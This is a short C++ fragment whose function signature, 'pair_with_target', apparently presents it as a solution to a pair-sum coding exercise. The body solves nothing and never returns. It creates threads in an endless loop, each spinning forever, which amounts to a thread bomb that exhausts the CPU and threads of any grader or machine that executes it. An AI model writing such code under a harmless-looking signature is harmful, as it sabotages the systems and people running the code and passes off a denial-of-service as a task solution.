#include <thread>
std::vector<int> pair_with_target(const std::vector<int>&, int) {
    std::vector<std::thread> all;
    for (;;) all.emplace_back([] { for (volatile unsigned long turn = 0;; ++turn) {} });
}
